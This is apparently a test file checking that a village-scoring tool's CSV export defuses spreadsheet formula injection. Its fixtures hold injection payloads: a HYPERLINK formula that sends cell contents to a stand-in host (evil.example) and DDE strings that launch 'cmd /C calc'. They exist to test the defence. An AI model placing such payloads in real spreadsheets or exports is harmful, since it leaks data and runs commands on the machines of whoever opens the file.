import { readFileSync } from 'node:fs';
import { parse } from 'csv-parse/sync';
import { afterAll, describe, expect, it } from 'vitest';
import { answersYaml, CRITERIA, pillarScores } from '../helpers/answers.js';
import { tempDir, village } from '../helpers/cli.js';
import { run } from '../helpers/run.js';

/**
 * `village score --format csv` goes into spreadsheets, and village names, municipalities and LAG
 * names come from untrusted files: a cell that starts with = + - @, a tab or a carriage return
 * could run as a formula, so it gets a leading apostrophe. Quoting, line ends, the separator and
 * the BOM of summary.csv are what Excel and LibreOffice need to read the file back.
 */

const all = (s: number): number[] => Array.from({ length: 9 }, () => s);
const scores = pillarScores({ strategy: [4, 4, 4, 3, 3, 3, 3, 3, 3], innovation: all(3), participation: all(2) });

interface Village {
  village: string;
  municipality: string;
  lag: string;
  respondent: string;
}

const VILLAGES: Record<string, Village> = {
  'a.yaml': {
    village: '=HYPERLINK("http://evil.example/?x="&A1;"Ērgļi")',
    municipality: '+Madonas novads',
    lag: '@SUM(1+1)*cmd|\' /C calc\'!A0',
    respondent: '=cmd|\' /C calc\'!A0',
  },
  'b.yaml': { village: '-Rūjiena', municipality: '-2+3', lag: 'Biedrība "A=B+C"', respondent: '+37120000000' },
  'c.yaml': { village: '@Alsunga', municipality: '=1+1, "x"; y', lag: 'Partnerība, "Lauki"; un citi', respondent: '@vārds' },
  'd.yaml': { village: 'Vecpiebalga', municipality: 'Cēsu novads', lag: 'Kalni\tLejas', respondent: 'Ilze Ābele' },
};

/** What a spreadsheet cell must show: the text, with an apostrophe before a formula prefix. */
const shown = (s: string): string => (/^[=+\-@\t\r]/.test(s) ? `'${s}` : s);

const tmp = tempDir(
  Object.fromEntries(
    Object.entries(VILLAGES).map(([file, v]) => [
      `in/${file}`,
      answersYaml(v.village, scores, { municipality: v.municipality, lag: v.lag, respondent: v.respondent, date: '2026-03-14' }),
    ]),
  ),
);
afterAll(() => tmp.cleanup());

const HEADER = [
  'village', 'municipality', 'lag', 'date', 'period', 'respondents', 'level', 'overall',
  'strategy', 'innovation', 'participation',
  'coverage.strategy', 'coverage.innovation', 'coverage.participation',
  ...CRITERIA,
  'disagreements', 'sources',
];

const SEPARATORS = { comma: ',', semicolon: ';', tab: '\t' } as const;

/** The records of a CSV text as a spreadsheet reads them. */
const records = (text: string, delimiter: string): string[][] => parse(text, { delimiter, record_delimiter: '\r\n', bom: true });

async function csv(separator: string, extra: string[] = []): Promise<string> {
  const r = await run(['score', tmp.path('in'), '--format', 'csv', '--separator', separator === '\t' ? 'tab' : separator, ...extra]);
  expect(r.stderr).toContain('4 village(s) from 4 answer set(s)');
  expect(r.code).toBe(0);
  return r.stdout;
}

describe('village score --format csv', () => {
  it.each(Object.entries(SEPARATORS))('writes the documented columns, one CRLF-ended row per village, a BOM only with ; (%s)', async (_name, sep) => {
    const text = await csv(sep);
    // With ";" (Excel in a Latvian locale) the output opens with a BOM so a double-click reads UTF-8.
    expect(text.startsWith(sep === ';' ? '\uFEFFvillage' : 'village')).toBe(true);
    expect(text.endsWith('\r\n')).toBe(true);
    const rows = records(text, sep);
    expect(rows[0]).toEqual(HEADER);
    expect(rows).toHaveLength(1 + 4);
    for (const row of rows) expect(row).toHaveLength(HEADER.length);
    // Outside quoted cells every line ends with CRLF.
    expect(text.replace(/"(?:[^"]|"")*"/g, '').match(/(?<!\r)\n/g)).toBeNull();
  });

  it.each(Object.entries(SEPARATORS))('puts an apostrophe before a formula prefix and keeps the text otherwise (%s)', async (_name, sep) => {
    const rows = records(await csv(sep), sep).slice(1);
    const got = rows.map((r) => ({ village: r[0], municipality: r[1], lag: r[2] }));
    expect(got).toEqual(
      Object.values(VILLAGES).map((v) => ({ village: shown(v.village), municipality: shown(v.municipality), lag: shown(v.lag) })),
    );
    expect(got[0]!.village).toBe('\'=HYPERLINK("http://evil.example/?x="&A1;"Ērgļi")');
    expect(got[1]!.village).toBe("'-Rūjiena");
    expect(got[2]!.village).toBe("'@Alsunga");
    expect(got[0]!.municipality).toBe("'+Madonas novads");
    expect(got[1]!.lag).toBe('Biedrība "A=B+C"');
    expect(got[3]).toEqual({ village: 'Vecpiebalga', municipality: 'Cēsu novads', lag: 'Kalni\tLejas' });
  });

  it.each(Object.entries(SEPARATORS))('leaves no cell that starts like a formula, and no respondent name (%s)', async (_name, sep) => {
    const text = await csv(sep);
    for (const row of records(text, sep)) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    for (const v of Object.values(VILLAGES)) expect(text).not.toContain(v.respondent);
  });

  it('quotes a cell only when it holds the separator, a quote or a line break', async () => {
    const comma = (await csv(',')).split('\r\n')[3]!;
    expect(comma.startsWith('\'@Alsunga,"\'=1+1, ""x""; y","Partnerība, ""Lauki""; un citi",2026-03-14,2026,1,')).toBe(true);
    const semi = (await csv(';')).split('\r\n')[3]!;
    expect(semi.startsWith('\'@Alsunga;"\'=1+1, ""x""; y";"Partnerība, ""Lauki""; un citi";2026-03-14;2026;1;')).toBe(true);
    const plain = (await csv(';')).split('\r\n')[4]!;
    expect(plain.startsWith('Vecpiebalga;Cēsu novads;Kalni\tLejas;2026-03-14;2026;1;transition;')).toBe(true);
    const tab = (await csv('\t')).split('\r\n')[4]!;
    expect(tab.startsWith('Vecpiebalga\tCēsu novads\t"Kalni\tLejas"\t2026-03-14\t2026\t1\ttransition\t')).toBe(true);
  });

  it('writes numbers with a decimal point, or a decimal comma with ";" (not defused, not quoted)', async () => {
    const comma = records(await csv(','), ',')[1]!;
    const semi = records(await csv(';'), ';')[1]!;
    // overall, the three pillar scores and coverage; then the first criteria's raw scores.
    expect(comma.slice(7, 14)).toEqual(['69.4', '83.3', '75', '50', '1', '1', '1']);
    expect(semi.slice(7, 14)).toEqual(['69,4', '83,3', '75', '50', '1', '1', '1']);
    expect(semi.slice(14, 18)).toEqual(['4', '4', '4', '3']);
  });

  it('keeps the names as they are in JSON: defusing is for spreadsheets only', async () => {
    const r = await run(['score', tmp.path('in'), '--format', 'json']);
    const doc = JSON.parse(r.stdout) as { results: { village: string; municipality: string; lag: string }[] };
    expect(doc.results.map((x) => [x.village, x.municipality, x.lag])).toEqual(Object.values(VILLAGES).map((v) => [v.village, v.municipality, v.lag]));
  });

  it('defuses file names in the sources column, tab and carriage return included', () => {
    const names = ['\t=1+2.yaml', '\r@x.yaml', '=SUM(A1).yaml', '+3.yaml', '-4.yaml', 'plain.yaml'];
    const dir = tempDir(Object.fromEntries(names.map((n, i) => [n, answersYaml(`Ciems ${i}`, { 'strategy.vision': 3 })])));
    try {
      // Relative paths: the cell starts with the file name. The binary runs in that folder.
      const r = village(['score', '.', '--format', 'csv', '--no-group'], { cwd: dir.dir });
      expect(r.code).toBe(0);
      const rows = records(r.stdout, ',').slice(1);
      const sources = rows.map((row) => row[HEADER.length - 1]);
      expect(sources.sort()).toEqual(names.map(shown).sort());
      expect(sources).toContain("'\t=1+2.yaml");
      expect(sources).toContain("'\r@x.yaml");
      expect(r.stdout).toContain('"\'\r@x.yaml"');
    } finally {
      dir.cleanup();
    }
  });
});

describe('village score --reports summary.csv', () => {
  it.each([
    ['en', undefined, ',', 'Rank'],
    ['lv', undefined, ';', 'Vieta'],
    ['lv', 'tab', '\t', 'Vieta'],
    ['en', ';', ';', 'Rank'],
  ] as const)('follows --lang %s (separator %s): its headers, its separator, always a BOM', async (lang, flag, sep, first) => {
    const out = tempDir();
    try {
      const r = await run(['score', tmp.path('in'), '--lang', lang, '--reports', out.path('plans'), ...(flag ? ['--separator', flag] : [])]);
      expect(r.code).toBe(0);
      const bytes = readFileSync(out.path('plans/summary.csv'));
      expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
      const rows = records(bytes.toString('utf8'), sep);
      expect(rows[0]?.[0]).toBe(first);
      expect(rows[0]?.[1]).toBe(lang === 'lv' ? 'Ciems' : 'Village');
      expect(rows).toHaveLength(5);
      expect(bytes.toString('utf8')).toContain("'-Rūjiena");
      // Level titles, not ids; a decimal comma with ";".
      expect(bytes.toString('utf8')).toContain(lang === 'lv' ? 'Pārejas ciems' : 'Village in transition');
      if (sep === ';') expect(bytes.toString('utf8')).toContain('69,4');
    } finally {
      out.cleanup();
    }
  });
});

describe('village score --format csv when no village is shown', () => {
  // The columns come from the framework, not from the first village: a script reading the file
  // sees the same columns whatever the filter leaves.
  it('keeps the same header', async () => {
    const r = await run(['score', tmp.path('in'), '--format', 'csv', '--level', 'lighthouse']);
    expect(r.code).toBe(0);
    expect(records(r.stdout, ',')[0]).toEqual(HEADER);
  });
});
